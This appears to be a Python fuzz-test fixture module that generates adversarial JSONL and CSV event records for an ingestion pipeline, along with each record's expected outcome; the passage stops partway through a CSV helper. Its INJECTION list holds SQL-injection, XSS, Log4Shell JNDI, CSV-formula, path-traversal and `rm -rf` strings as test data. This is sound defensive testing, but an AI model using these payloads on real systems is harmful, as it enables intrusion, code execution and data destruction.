"""Adversarial feedback records for one hour: the input of the fuzz and poison-hour tests (issue 10).

``Adversary(seed)`` writes records the way broken or hostile producers do, and
knows for each what collect must do with it. A ``Record`` is the bytes as
written (without the line terminator) and its ``expected`` fate:

- ``("valid", row)``: stored with exactly these values; ``row`` is the event as
  the ``events`` table holds it (the contract's fields, ``ts`` a UTC datetime,
  absent optional fields None);
- ``("bad", field)``: quarantined naming ``field`` (a top-level field's name,
  ``errors.0.type`` for a list item's, ``event`` for a line that does not
  parse), or None where only "some field" can be said; its raw bytes kept.

The same seed gives the same bytes. ``fuzz_hour`` lays out 10,000+ records in
four JSONL and three CSV files for one hour (the classes and their counts:
``JSONL_MIX``, ``JSONL_FIXED`` and ``CSV_MIX`` below; ``mutation`` puts one to
three random defects in a valid event); ``poison_hour`` puts one record of a
crash class (``POISON``) among 200 valid events. Valid events' timestamps are
all inside the hour, at any UTC offset.

What the contract's text leaves open is decided here, in one place:

- a UTF-8 BOM at the start of a file is not part of its first record;
- a line that is not UTF-8 is refused whole (``event``), even where the bad
  bytes sit in an unknown field;
- unknown fields are ignored whatever they hold, as long as the line parses
  (1e999 or a 400-digit integer there do not refuse the event), up to the
  1 MiB record limit: a 200 KiB cell in an unknown CSV column is ignored too
  (in ``comment``, it is refused for its length);
- a CSV record cut inside a quoted cell (a file cut short) is refused, not
  stored with half its text;
- NUL raw in JSON text, NaN / Infinity literals, lone surrogate escapes and
  deep nesting inside a contract field are refused, field unspecified (None).
"""

from __future__ import annotations

import csv
import dataclasses
import io
import itertools
import json
import math
import random
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

HOUR = datetime(2026, 11, 20, 5, tzinfo=UTC)
INT32_MAX = 2**31 - 1
INT64_MAX = 2**63 - 1
MAX_MEASURE = 1e12
MAX_RECORD_BYTES = 1 << 20
BOM = b"\xef\xbb\xbf"

REQUIRED = (
    "event_id",
    "execution_id",
    "session_id",
    "user_id",
    "timestamp",
    "success",
)  # duration_s and quality_score are optional: outcome-only sources report neither
IDS = ("event_id", "execution_id", "session_id", "user_id")
LABELS = ("agent_tier", "task_type", "language")  # at most 64 characters
NAMES = ("model", "prompt_id", "experiment_id")  # at most 128
COUNTS = ("size", "syntax_errors", "tokens_in", "tokens_out", "prompt_version")
INT32_COLUMNS = ("size", "prompt_version", "syntax_errors")  # were 32-bit columns
UNITS = ("complexity", "quality_score", "test_coverage", "doc_score")
MEASURES = ("duration_s", "cpu_s", "memory_mb", "cost_usd")
FLOATS = (*UNITS, *MEASURES, "satisfaction")
BOOLS = ("success", "accepted")
INDICATORS = ("style_issues", "security_warnings")
LISTS = (*INDICATORS, "errors")
TEXTS = (*IDS, *LABELS, *NAMES, "comment")
FIELDS = (
    *IDS,
    "timestamp",
    *LABELS,
    "model",
    "prompt_id",
    "prompt_version",
    "experiment_id",
    "arm",
    "complexity",
    "size",
    "success",
    "duration_s",
    "quality_score",
    "syntax_errors",
    *INDICATORS,
    "test_coverage",
    "doc_score",
    "satisfaction",
    "accepted",
    "comment",
    "errors",
    "cpu_s",
    "memory_mb",
    "tokens_in",
    "tokens_out",
    "cost_usd",
)
OPTIONAL = tuple(name for name in FIELDS if name not in REQUIRED)
LIMITS = {
    **dict.fromkeys(IDS, 128),
    **dict.fromkeys(LABELS, 64),
    **dict.fromkeys(NAMES, 128),
    "comment": 10000,
}

UNICODE = (
    "héllo wörld",
    "日本語のテキスト",
    "مرحبا بالعالم",
    "שלום עולם",
    "emoji 😀🚀👩‍💻🏳️‍🌈",
    "combining e\u0301\u0302 a\u0308",
    "zero\u200bwidth\u200djoiner",
    "line\u2028sep\u2029para",
    "next\x85line",
    "bom\ufeffinside",
    "tab\tnew\nline\rret",
    'quote" back\\slash /',
    # mathematical letters, a private-use character
    "\U0001d54c\U0001d55f\U0001d55a\U0001d554\U0001d560\U0001d555\U0001d556 \U0010fffd",
    "\u202eRTL override\u202c",
    "ctrl \x01\x1f\x7f",
    "ß ﬁ ǅ İ",
    "noncharacters \ufdd0 \ufffe \uffff",
    "  padded  ",
)
INJECTION = (
    "'; DROP TABLE events; --",
    "Robert'); DROP TABLE students;--",
    '" OR "1"="1',
    "1; DELETE FROM quarantine WHERE 1=1",
    "' UNION SELECT raw FROM quarantine --",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "</td></tr><script>fetch('//evil')</script>",
    "${jndi:ldap://evil/a}",
    "{{7*7}}",
    "%s%s%n%x",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "../../etc/passwd",
    "\\x00 is not a NUL",
    "\\u0000 is not a NUL either",
    "NULL",
    "null",
    "NaN",
    "$(rm -rf /)",
    "E'\\\\x00'",
)
INVALID_UTF8 = (
    b"\xff",
    b"\xfe\xfe",
    b"\xc0\xaf",  # overlong "/"
    b"\xe0\x80\xaf",  # overlong, 3 bytes
    b"\xed\xa0\x80",  # an encoded surrogate
    b"\xf4\x90\x80\x80",  # above U+10FFFF
    b"\x80",  # a lone continuation byte
    b"\xe6\x97",  # cut inside a character
    b"caf\xe9",  # Latin-1
)
OFFSETS = (0, 0, 0, 0, 60, -300, 330, 120, -480)  # minutes
EXOTIC_OFFSETS = (345, -570, 525, 840, -720, 1439, -1439, -1, 1, 765)
TIERS = ("T0", "T1", "T2", "T3")
TASKS = ("api_endpoint", "data_pipeline", "ui_component", "sql_query")
INDICATOR_POOL = ("long functions", "sql injection", "xss", "missing docstring", "n+1 query", "magic numbers")
ERROR_TYPES = ("timeout", "syntax_error", "runtime_error", "oom")


class Raw:
    """JSON text spliced into a line as it is (NaN, 1e999, invalid UTF-8, ...); ``value``: what it means."""

    __slots__ = ("text", "value")

    def __init__(self, text: bytes, value: Any = None) -> None:
        self.text = text
        self.value = value


@dataclass(frozen=True)
class Record:
    kind: str
    line: bytes  # as written, without the line terminator
    expected: tuple[str, Any]  # ("valid", row) or ("bad", field | None)
    terminator: bytes | None = None  # None: the file's
    blank_after: bytes = b""  # blank or whitespace-only lines written after it (not records)

    @property
    def valid(self) -> bool:
        return self.expected[0] == "valid"

    @property
    def row(self) -> dict[str, Any]:
        return self.expected[1]

    @property
    def field(self) -> str | None:
        return self.expected[1]


@dataclass
class LandingFile:
    name: str  # inside the hour's folder
    records: list[Record]
    header: bytes | None = None  # CSV
    bom: bool = False
    terminator: bytes = b"\n"
    final_terminator: bool = True  # False: the file ends inside its last record
    columns: list[str] | None = None  # a CSV file's header

    def data(self) -> bytes:
        parts = [BOM] if self.bom else []
        if self.header is not None:
            parts += [self.header, self.terminator]
        for index, record in enumerate(self.records):
            parts.append(record.line)
            if index < len(self.records) - 1 or self.final_terminator:
                parts.append(record.terminator or self.terminator)
            parts.append(record.blank_after)
        return b"".join(parts)


@dataclass
class Outcome:
    """What collecting these files must give: records read, stored (by event_id), duplicates, refused."""

    read: int
    stored: dict[str, Record]
    duplicates: int
    quarantined: list[Record]


def expected_outcome(files: list[LandingFile]) -> Outcome:
    """The first valid record of an event_id is stored (by file name, then line); later ones are duplicates.

    Duplicates across files are exact copies, so which file is read first does not matter.
    """
    stored: dict[str, Record] = {}
    duplicates, bad, read = 0, [], 0
    for landing_file in sorted(files, key=lambda f: f.name):
        for record in landing_file.records:
            read += 1
            if not record.valid:
                bad.append(record)
            elif record.row["event_id"] in stored:
                duplicates += 1
            else:
                stored[record.row["event_id"]] = record
    return Outcome(read, stored, duplicates, bad)


def store_row(event: dict[str, Any], ts: datetime) -> dict[str, Any]:
    """The ``events`` row a valid event becomes."""
    row = {}
    for name in FIELDS:
        value = event.get(name)
        row[name] = value.value if isinstance(value, Raw) else value
    del row["timestamp"]
    row["ts"] = ts
    if row["errors"]:
        row["errors"] = [{"type": item["type"], "message": item.get("message")} for item in row["errors"]]
    return row


def _without_cr(value: Any) -> Any:
    if isinstance(value, str):
        return value.replace("\r", "")
    if isinstance(value, list):
        return [_without_cr(item) for item in value]
    if isinstance(value, dict):
        return {key: _without_cr(item) for key, item in value.items()}
    return value


class Adversary:
    """A seeded source of adversarial records for the hour starting at ``hour``."""

    def __init__(self, seed: int = 0, hour: datetime = HOUR) -> None:
        self.seed = seed
        self.rng = random.Random(seed)
        self.hour = hour
        self._serial = itertools.count()

    # -- building blocks -------------------------------------------------

    def marker(self) -> str:
        """A unique ASCII token; every event id starts with one, so a quarantined line can be traced."""
        return f"fz{self.seed}-{next(self._serial)}"

    def instant(self) -> datetime:
        rng = self.rng
        ts = self.hour + timedelta(seconds=rng.randrange(3600))
        return ts + timedelta(microseconds=rng.choice((0, rng.randrange(1000) * 1000, rng.randrange(10**6))))

    def stamp(self, ts: datetime, offset: int | None = None) -> str:
        """``ts`` in ISO 8601 at a UTC offset in minutes (random if None)."""
        offset = self.rng.choice(OFFSETS) if offset is None else offset
        text = ts.astimezone(timezone(timedelta(minutes=offset))).isoformat()
        return text[:-6] + "Z" if offset == 0 and self.rng.random() < 0.7 else text

    def text(self, limit: int, pool: tuple[str, ...] | None = None) -> str:
        rng = self.rng
        text = rng.choice(pool) if pool else " ".join(rng.choices(("ok", "slow", "fast", "retry", "x"), k=4))
        return text[:limit] or "x"

    def measure(self) -> float:
        rng = self.rng
        return rng.choice(
            (round(rng.lognormvariate(2, 1.2), 3), rng.uniform(0, 1000), 0.0, float(rng.randrange(99)))
        )

    def error_item(self) -> dict[str, Any]:
        item: dict[str, Any] = {"type": self.rng.choice(ERROR_TYPES)}
        choice = self.rng.randrange(3)
        if choice == 1:
            item["message"] = self.text(2000)
        elif choice == 2:
            item["message"] = None
        return item

    def event(self) -> tuple[dict[str, Any], datetime]:
        """A valid event (as a producer writes it) and its UTC instant, inside the hour."""
        rng = self.rng
        marker = self.marker()
        ts = self.instant()
        event: dict[str, Any] = {
            "event_id": marker,
            "execution_id": f"x-{marker}",
            "session_id": f"s-{rng.randrange(300)}",
            "user_id": f"u-{rng.randrange(100)}",
            "timestamp": self.stamp(ts),
            "success": rng.random() < 0.8,
            "duration_s": self.measure(),
            "quality_score": rng.random(),
        }
        makers: dict[str, Callable[[], Any]] = {
            "agent_tier": lambda: rng.choice(TIERS),
            "task_type": lambda: rng.choice(TASKS),
            "language": lambda: rng.choice(("python", "go", "typescript")),
            "model": lambda: rng.choice(("atlas-large", "atlas-small")),
            "prompt_id": lambda: f"p-{rng.randrange(6)}",
            "prompt_version": lambda: rng.randint(1, 9),
            "experiment_id": lambda: f"exp-{rng.randrange(4)}",
            "arm": lambda: rng.choice(("control", "variant")),
            "complexity": rng.random,
            "size": lambda: rng.randint(0, 4000),
            "syntax_errors": lambda: rng.randint(0, 4),
            "style_issues": lambda: rng.sample(INDICATOR_POOL, rng.randint(0, 3)),
            "security_warnings": lambda: rng.sample(INDICATOR_POOL, rng.randint(0, 2)),
            "test_coverage": rng.random,
            "doc_score": rng.random,
            "satisfaction": lambda: rng.uniform(1, 5),
            "accepted": lambda: rng.random() < 0.5,
            "comment": lambda: self.text(10000),
            "errors": lambda: [self.error_item() for _ in range(rng.randint(0, 2))],
            "cpu_s": self.measure,
            "memory_mb": lambda: rng.uniform(0, 8192),
            "tokens_in": lambda: rng.randint(0, 20000),
            "tokens_out": lambda: rng.randint(0, 8000),
            "cost_usd": lambda: round(rng.uniform(0, 2), 6),
        }
        for name, make in makers.items():
            draw = rng.random()
            if draw < 0.65:
                event[name] = make()
            elif draw < 0.75:
                event[name] = None
        return event, ts

    def dumps(
        self, obj: Any, *, ascii: bool | None = None, shuffle: bool = True, compact: bool = False
    ) -> bytes:
        """One JSON line in a random but legal style, with ``Raw`` values spliced in as they are."""
        rng = self.rng
        raws: dict[str, bytes] = {}

        def prepare(value: Any) -> Any:
            if isinstance(value, Raw):
                key = f"@@raw{len(raws)}@@"
                raws[key] = value.text
                return key
            if isinstance(value, dict):
                return {k: prepare(v) for k, v in value.items()}
            if isinstance(value, list):
                return [prepare(v) for v in value]
            return value

        if shuffle and isinstance(obj, dict) and rng.random() < 0.5:
            obj = dict(rng.sample(list(obj.items()), len(obj)))
        separators = (",", ":") if compact else rng.choice(((", ", ": "), (",", ":"), (" ,\t", " : ")))
        ascii = rng.random() < 0.3 if ascii is None else ascii
        text = json.dumps(prepare(obj), ensure_ascii=ascii, separators=separators, allow_nan=False)
        line = text.encode("utf-8")
        for key, raw in raws.items():
            line = line.replace(f'"{key}"'.encode(), raw, 1)
        return line

    def valid(self, kind: str, event: dict[str, Any], ts: datetime, **dump: Any) -> Record:
        return Record(kind, self.dumps(event, **dump), ("valid", store_row(event, ts)))

    def bad(self, kind: str, line: bytes, field: str | None) -> Record:
        return Record(kind, line, ("bad", field))

    def plain_line(self) -> bytes:
        event, _ = self.event()
        return self.dumps(event, shuffle=False, compact=True, ascii=False)

    # -- field-level defects: each breaks one field of ``event`` and names it ----

    def wrong_type(self, event: dict[str, Any]) -> str:
        rng = self.rng
        name = rng.choice(FIELDS)
        if name in IDS:
            event[name] = rng.choice((5, 1.5, True, [], {}, ["a"]))
        elif name in TEXTS:
            event[name] = rng.choice((5, 1.5, True, [], {"a": 1}))
        elif name == "timestamp":
            event[name] = rng.choice((1700000000, 1.7e9, True, [], {}, [event["timestamp"]]))
        elif name in BOOLS:
            event[name] = rng.choice(("true", "yes", 1, 0, 1.0, [], {}, "1"))
        elif name in FLOATS:
            event[name] = rng.choice(("12.5", "0", True, False, [], {}, [0.5], "NaN"))
        elif name in COUNTS:
            event[name] = rng.choice((1.5, "120", True, [], {}, [1], 120.5))
        elif name == "arm":
            event[name] = rng.choice((1, True, ["control"], {}))
        elif rng.random() < 0.4:
            event[name] = rng.choice(("xss", 5, {}, True))
        else:
            items = self.list_items(name)
            index = rng.randint(0, len(items))
            if name in INDICATORS:
                items.insert(index, rng.choice((1, None, True, [], {}, 1.5)))
                event[name] = items
                return f"{name}.{index}"
            bad, path = rng.choice(
                (
                    ("timeout", ""),
                    (5, ""),
                    (None, ""),
                    ([], ""),
                    ({"type": 5}, ".type"),
                    ({"type": None}, ".type"),
                    ({"message": "no type"}, ".type"),
                    ({"type": "timeout", "message": 5}, ".message"),
                    ({"type": "timeout", "message": ["x"]}, ".message"),
                )
            )
            items.insert(index, bad)
            event[name] = items
            return f"errors.{index}{path}"
        return name

    def list_items(self, name: str) -> list[Any]:
        if name == "errors":
            return [self.error_item() for _ in range(self.rng.randint(0, 3))]
        return self.rng.sample(INDICATOR_POOL, self.rng.randint(0, 3))

    def out_of_range(self, event: dict[str, Any]) -> str:
        rng = self.rng
        name = rng.choice((*FLOATS, *COUNTS))
        if name in MEASURES:
            values = (-1e-300, -0.5, -1, math.nextafter(MAX_MEASURE, math.inf), 1e13, 2 * 10**12, 1e300)
            values += (1.7976931348623157e308, -1.7976931348623157e308)
        elif name in UNITS:
            values = (math.nextafter(1.0, 2.0), 1.5, 2, -1e-300, -1, 1e308)
        elif name == "satisfaction":
            values = (math.nextafter(1.0, 0.0), 0, 0.5, math.nextafter(5.0, 6.0), 6, -1e308, 1e308)
        elif name == "prompt_version":
            values = (0, -1, -(2**63))
        else:
            values = (-1, -(2**63), -(10**30))
        event[name] = rng.choice(values)
        return name

    def int64_overflow(self, event: dict[str, Any], name: str | None = None) -> str:
        name = name or self.rng.choice(COUNTS)
        event[name] = self.rng.choice(
            (2**63, 2**63 + 1, 2**64, 2**64 + 1, 10**20, 10**30, 10**400, -(2**63) - 1)
        )
        return name

    def bad_length(self, event: dict[str, Any]) -> str:
        rng = self.rng
        name = rng.choice((*TEXTS, *LISTS, "arm"))
        if name == "event_id":
            event[name] = rng.choice(("", event[name] + "-" + "é" * 128, event[name] + "😀" * 128))
        elif name in TEXTS:
            filler = rng.choice(("a", "😀", "é"))
            event[name] = (
                "" if name in IDS and rng.random() < 0.3 else filler * (LIMITS[name] + rng.randint(1, 50))
            )
        elif name == "arm":
            event[name] = rng.choice(("", "Control", "treatment", "control "))
        elif name in INDICATORS:
            if rng.random() < 0.5:
                event[name] = ["xss"] * rng.randint(101, 150)
                return name
            items = self.list_items(name)
            index = rng.randint(0, len(items))
            items.insert(index, "y" * rng.randint(201, 400))
            event[name] = items
            return f"{name}.{index}"
        else:
            items = self.list_items(name)
            if rng.random() < 0.3:
                event[name] = [{"type": "timeout"}] * rng.randint(101, 120)
                return name
            index = rng.randint(0, len(items))
            bad, path = rng.choice(
                (
                    ({"type": ""}, ".type"),
                    ({"type": "t" * 65}, ".type"),
                    ({"type": "timeout", "message": "m" * 2001}, ".message"),
                )
            )
            items.insert(index, bad)
            event[name] = items
            return f"errors.{index}{path}"
        return name

    def missing_required(self, event: dict[str, Any]) -> str:
        name = self.rng.choice([name for name in REQUIRED if name in event])
        del event[name]
        return name

    def null_required(self, event: dict[str, Any]) -> str:
        name = self.rng.choice(REQUIRED)
        event[name] = None
        return name

    def bad_timestamp(self, event: dict[str, Any]) -> str:
        event["timestamp"] = self.rng.choice(
            (
                "2026-11-20T05:10:00",  # no offset
                "2026-11-20T05:10:00.5",
                "2026-11-20",
                "2026-02-30T05:10:00Z",
                "2026-11-20T25:00:00Z",
                "2026-11-20T05:60:00Z",
                "2026-11-20T05:10:00+24:00",
                "2026-11-20T05:10:00+05:30:15",
                "yesterday",
                "",
                "2026-11-20T05:10:00 UTC",
                "2026-11-20T05:10:00ZZ",
                *OVERFLOWING,
            )
        )
        return "timestamp"

    def nul_escaped(self, event: dict[str, Any]) -> str:
        """A NUL written as the escape \\u0000 (json.dumps writes it so) in one text."""
        rng = self.rng
        name = rng.choice((*TEXTS, *TEXTS, "arm", "timestamp", *LISTS))

        def with_nul(text: str) -> str:
            at = rng.randint(0, len(text))
            return text[:at] + "\x00" + text[at:]

        if name in TEXTS:
            event[name] = with_nul(str(event.get(name) or "text")[:60])
        elif name in ("arm", "timestamp"):
            event[name] = with_nul(event.get(name) or "control")
        elif name in INDICATORS:
            items = self.list_items(name)
            index = rng.randint(0, len(items))
            items.insert(index, with_nul("xss"))
            event[name] = items
            return f"{name}.{index}"
        else:
            items = self.list_items(name)
            index = rng.randint(0, len(items))
            key = rng.choice(("type", "message"))
            items.insert(index, {"type": "timeout", key: with_nul("timeout")})
            event[name] = items
            return f"errors.{index}.{key}"
        return name

    def float_overflow(self, event: dict[str, Any]) -> str:
        name = self.rng.choice(FLOATS)
        event[name] = Raw(self.rng.choice((b"1e999", b"-1e999", b"1e400", b"2e308", b"1.8e308", b"-1E400")))
        return name

    def non_finite(self, event: dict[str, Any]) -> None:
        name = self.rng.choice(FLOATS)
        event[name] = Raw(self.rng.choice((b"NaN", b"Infinity", b"-Infinity", b"nan", b"inf", b"-inf")))

    def number_syntax(self, event: dict[str, Any]) -> None:
        name = self.rng.choice((*FLOATS, *COUNTS))
        event[name] = Raw(
            self.rng.choice((b"007", b"0x10", b"+1", b".5", b"1.", b"1e", b"--1", b"True", b"None"))
        )

    DEFECTS = (
        "wrong_type",
        "out_of_range",
        "int64_overflow",
        "bad_length",
        "missing_required",
        "null_required",
        "bad_timestamp",
        "nul_escaped",
        "float_overflow",
        "non_finite",
        "number_syntax",
    )

    def defect(self, kind: str) -> Record:
        event, _ = self.event()
        field = getattr(self, kind)(event)
        return self.bad(kind, self.dumps(event), field)

    # -- JSONL classes: jsonl_<kind>() -> Record ----------------------------

    def jsonl_valid(self) -> Record:
        return self.valid("valid", *self.event())

    def jsonl_valid_minimal(self) -> Record:
        event, ts = self.event()
        return self.valid("valid_minimal", {name: event[name] for name in REQUIRED}, ts)

    def jsonl_valid_nulls(self) -> Record:
        event, ts = self.event()
        return self.valid("valid_nulls", {**event, **dict.fromkeys(OPTIONAL)}, ts)

    def jsonl_valid_offset(self) -> Record:
        event, ts = self.event()
        event["timestamp"] = self.stamp(ts, self.rng.choice(EXOTIC_OFFSETS))
        return self.valid("valid_offset", event, ts)

    def texts(self, event: dict[str, Any], pool: tuple[str, ...]) -> dict[str, Any]:
        rng = self.rng
        for name in rng.sample(TEXTS, rng.randint(2, len(TEXTS))):
            text = self.text(LIMITS[name], pool)
            event[name] = f"{event[name]}-{text}"[: LIMITS[name]] if name == "event_id" else text
        event["style_issues"] = [self.text(200, pool) for _ in range(rng.randint(0, 3))]
        event["errors"] = [{"type": self.text(64, pool), "message": self.text(2000, pool)}]
        return event

    def jsonl_valid_unicode(self) -> Record:
        event, ts = self.event()
        return self.valid("valid_unicode", self.texts(event, UNICODE), ts)

    def jsonl_valid_injection(self) -> Record:
        event, ts = self.event()
        return self.valid("valid_injection", self.texts(event, INJECTION), ts)

    def jsonl_valid_int32_overflow(self) -> Record:
        """Above 2^31-1 in a count that was a 32-bit column: valid, stored unchanged."""
        event, ts = self.event()
        for name in self.rng.sample(INT32_COLUMNS, self.rng.randint(1, 3)):
            event[name] = self.rng.choice((INT32_MAX + 1, 2**32 + 7, 2**53 + 1, INT64_MAX))
        return self.valid("valid_int32_overflow", event, ts)

    def jsonl_valid_boundaries(self) -> Record:
        rng = self.rng
        event, ts = self.event()
        if rng.random() < 0.2:  # the first and the last microsecond of the hour, at any offset
            ts = rng.choice((self.hour, self.hour + timedelta(hours=1, microseconds=-1)))
            event["timestamp"] = self.stamp(ts, rng.choice(EXOTIC_OFFSETS + OFFSETS))
        for _ in range(rng.randint(1, 4)):
            name = rng.choice((*FLOATS, *COUNTS, "event_id", *LABELS, *NAMES, "comment", *LISTS))
            if name in MEASURES:
                event[name] = rng.choice(
                    (0, 0.0, -0.0, MAX_MEASURE, 10**12, 5e-324, Raw(b"1e-400", 0.0), Raw(b"1E3", 1000.0))
                )
                if rng.random() < 0.2:
                    event[name] = Raw(b"12.50000000000000000001", 12.5)
            elif name in UNITS:
                event[name] = rng.choice((0, 1, 0.0, 1.0, 5e-324, -0.0))
            elif name == "satisfaction":
                event[name] = rng.choice((1, 5, 1.0, 5.0))
            elif name in COUNTS:
                event[name] = rng.choice((1 if name == "prompt_version" else 0, INT64_MAX))
            elif name == "event_id":
                event[name] = event[name] + "-" + rng.choice(("é", "😀", "a")) * (127 - len(event[name]))
            elif name in TEXTS:
                event[name] = rng.choice(("é", "😀", "a")) * LIMITS[name]
            elif name in INDICATORS:
                event[name] = [rng.choice(("é", "z")) * 200] * 100
            else:
                event[name] = [{"type": "t" * 64, "message": "m" * 2000}] * 100  # ~200 KB
        return self.valid("valid_boundaries", event, ts)

    def nested(self, depth: int) -> Any:
        value: Any = self.rng.choice((1, "leaf", None, True))
        for _ in range(depth):
            value = [value] if self.rng.random() < 0.5 else {"k": value}
        return value

    def jsonl_valid_extra_fields(self) -> Record:
        """Unknown fields, some named like store columns, are ignored."""
        rng = self.rng
        event, ts = self.event()
        extras = {
            "ts": "1999-01-01T00:00:00Z",
            "source": "evil",
            "ingested_at": "2000-01-01T00:00:00Z",
            "id": 1,
            "raw": "raw",
            "raw_encoding": "base64",
            "key": "k",
            "window_start": "1970-01-01T00:00:00Z",
            "Event_ID": "another",
            "TIMESTAMP": "garbage",
            "__proto__": {"admin": True},
            "constructor": {},
            "nested": self.nested(rng.randint(1, 32)),
            "list": [1, "a", None, True, 1.5, {}, []],
            "ключ": "значение",
            "": "empty key",
            "huge_but_finite": 1.7976931348623157e308,
            "negative": -5,
        }
        for name in rng.sample(list(extras), rng.randint(1, 6)):
            event[name] = extras[name]
        return self.valid("valid_extra_fields", event, ts)

    def jsonl_valid_extra_extreme(self) -> Record:
        """Numbers the contract refuses, but in unknown fields, where they are ignored."""
        event, ts = self.event()
        raw = self.rng.choice((b"1e999", b"-1e999", b"1" + b"0" * 400, b"-1" + b"0" * 30, b"1e-999"))
        event["x_" + self.rng.choice(("metric", "count", "size"))] = Raw(raw)
        return self.valid("valid_extra_extreme", event, ts)

    def sized(self, event: dict[str, Any], size: int) -> bytes:
        """``event`` with an unknown field padding its line to exactly ``size`` bytes."""
        event["x_pad"] = ""
        line = self.dumps(event, shuffle=False, compact=True, ascii=False)
        event["x_pad"] = "p" * (size - len(line))
        line = self.dumps(event, shuffle=False, compact=True, ascii=False)
        assert len(line) == size
        return line

    def jsonl_valid_large(self) -> Record:
        event, ts = self.event()
        size = self.rng.choice((MAX_RECORD_BYTES, 700_000, MAX_RECORD_BYTES - 1))
        return Record("valid_large", self.sized(event, size), ("valid", store_row(event, ts)))

    def jsonl_valid_whitespace(self) -> Record:
        record = self.jsonl_valid()
        pad = (b" ", b"\t", b" \t ", b"")
        line = self.rng.choice(pad) + record.line + self.rng.choice(pad)
        return Record("valid_whitespace", line, record.expected)

    def jsonl_valid_crlf(self) -> Record:
        return dataclasses.replace(self.jsonl_valid(), kind="valid_crlf", terminator=b"\r\n")

    def jsonl_valid_escapes(self) -> Record:
        event, ts = self.event()
        event["comment"] = Raw(
            b'"\\/\\b\\f\\n\\r\\t\\"\\\\\\u00e9\\ud83d\\ude00\\u2028 \\u001f"', '/\b\f\n\r\t"\\é😀\u2028 \x1f'
        )
        return self.valid("valid_escapes", event, ts, ascii=True)

    def jsonl_offset_overflow(self) -> Record:
        event, _ = self.event()
        event["timestamp"] = self.rng.choice(OVERFLOWING[:5])
        return self.bad("offset_overflow", self.dumps(event), "timestamp")

    def jsonl_offset_underflow(self) -> Record:
        event, _ = self.event()
        event["timestamp"] = self.rng.choice(OVERFLOWING[5:])
        return self.bad("offset_underflow", self.dumps(event), "timestamp")

    def deep(self, depth: int) -> bytes:
        shape = self.rng.randrange(3)
        if shape == 0:
            return b"[" * depth + b"]" * depth
        if shape == 1:
            return b'{"a":' * depth + b"1" + b"}" * depth
        return b'[{"a":' * (depth // 2) + b"null" + b"}]" * (depth // 2)

    def jsonl_deep_nesting(self) -> Record:
        """An unknown field nested 1,000+ deep in a ~2 KB line: quarantined, no RecursionError."""
        event, _ = self.event()
        event["x_nested"] = Raw(self.deep(self.rng.randint(1000, 3000)))
        return self.bad("deep_nesting", self.dumps(event), "event")

    def jsonl_deep_nesting_known(self) -> Record:
        event, _ = self.event()
        event[self.rng.choice((*LISTS, "comment", "duration_s"))] = Raw(
            self.deep(self.rng.randint(1000, 3000))
        )
        return self.bad("deep_nesting_known", self.dumps(event), None)

    def jsonl_nul_raw(self) -> Record:
        """A raw NUL byte: inside a string (not legal JSON), between tokens, or alone."""
        rng = self.rng
        event, _ = self.event()
        where = rng.randrange(5)
        if where == 0:
            event["comment"] = Raw(b'"before\x00after"')
        elif where == 1:
            event["user_id"] = Raw(b'"u\x00"')
        line = self.dumps(event)
        if where == 2:
            line = b"{\x00" + line[1:]
        elif where == 3:
            line = line + b"\x00"
        elif where == 4:
            line = b"\x00" * rng.randint(1, 3)
        return self.bad("nul_raw", line, None)

    def jsonl_oversize(self) -> Record:
        """Over 1 MiB: refused as a record, whatever is in it."""
        rng = self.rng
        event, _ = self.event()
        how = rng.randrange(3)
        if how == 0:
            event["comment"] = "x" * 2_000_000
            line = self.dumps(event)
        elif how == 1:
            line = self.sized(event, 2 * MAX_RECORD_BYTES)
        else:
            line = self.sized(event, MAX_RECORD_BYTES + 1)
        return self.bad("oversize", line, "event")

    def jsonl_invalid_utf8(self) -> Record:
        rng = self.rng
        event, _ = self.event()
        bad = rng.choice(INVALID_UTF8)
        where = rng.randrange(5)
        if where == 0:
            event["comment"] = Raw(b'"ok ' + bad + b' ok"')
        elif where == 1:
            event["user_id"] = Raw(b'"u-' + bad + b'"')
        elif where == 2:
            event["x_note"] = Raw(b'"' + bad + b'"')  # an unknown field: still not UTF-8
        elif where == 3:
            event["x_key_here"] = 1
        line = self.dumps(event)
        if where == 3:
            line = line.replace(b"x_key_here", b"x_" + bad, 1)
        elif where == 4:
            line = line[:1] + bad + line[1:]
        return self.bad("invalid_utf8", line, "event")

    def jsonl_lone_surrogate(self) -> Record:
        event, _ = self.event()
        name = self.rng.choice(("comment", "user_id", "x_extra", "model"))
        event[name] = Raw(
            self.rng.choice((b'"\\ud800"', b'"a\\udfffb"', b'"\\ud83d"', b'"\\ude00\\ud83d"', b'"\\uD800x"'))
        )
        return self.bad("lone_surrogate", self.dumps(event), None)

    def jsonl_truncated(self) -> Record:
        """A line cut short (a producer died mid-write): never a proper prefix of a JSON object."""
        line = self.plain_line()
        return self.bad("truncated", line[: self.rng.randint(1, len(line) - 1)], "event")

    def jsonl_not_object(self) -> Record:
        marker = self.marker().encode()
        line = self.rng.choice(
            (
                b"[1, 2, 3]",
                b'"' + marker + b'"',
                b"42",
                b"-1.5",
                b"null",
                b"true",
                b"false",
                b"[]",
                b"[" + self.plain_line() + b"]",
            )
        )
        return self.bad("not_object", line, "event")

    def jsonl_malformed(self) -> Record:
        marker = self.marker().encode()
        line = self.plain_line()
        choices = (
            b"{oops " + marker,
            line[:-1] + b",}",
            line.replace(b'"', b"'"),
            b"// " + marker,
            line + line,
            line + b"}",
            b"{" + line,
            line.replace(b'"event_id"', b"event_id", 1),
            line.replace(b'":', b'"', 1),
            b"}{",
            b"\x1b[31m" + marker + b"\x1b[0m",
            b"garbage \xe2\x98\x83 " + marker,
            b"{" * 5 + marker,
        )
        return self.bad("malformed", self.rng.choice(choices), "event")

    def jsonl_mutation(self) -> Record:
        """One to three random defects in one valid event; the field is known when there is one."""
        rng = self.rng
        event, _ = self.event()
        fields = [
            getattr(self, kind)(event) for kind in rng.choices(self.DEFECTS, k=rng.choice((1, 1, 2, 3)))
        ]
        field = fields[0] if len(fields) == 1 else None
        return self.bad("mutation", self.dumps(event), field)

    # -- CSV ---------------------------------------------------------------

    def csv_header(self, last: str | None = None) -> list[str]:
        rng = self.rng
        droppable = [*LABELS, *NAMES, "accepted", "arm", "test_coverage", "doc_score"]
        dropped = set(rng.sample(droppable, rng.randint(0, 4)))
        columns = [name for name in FIELDS if name not in dropped] + ["x_extra"]
        rng.shuffle(columns)
        if last:
            columns.remove(last)
            columns.append(last)
        return columns

    def cell(self, name: str, value: Any) -> str:
        rng = self.rng
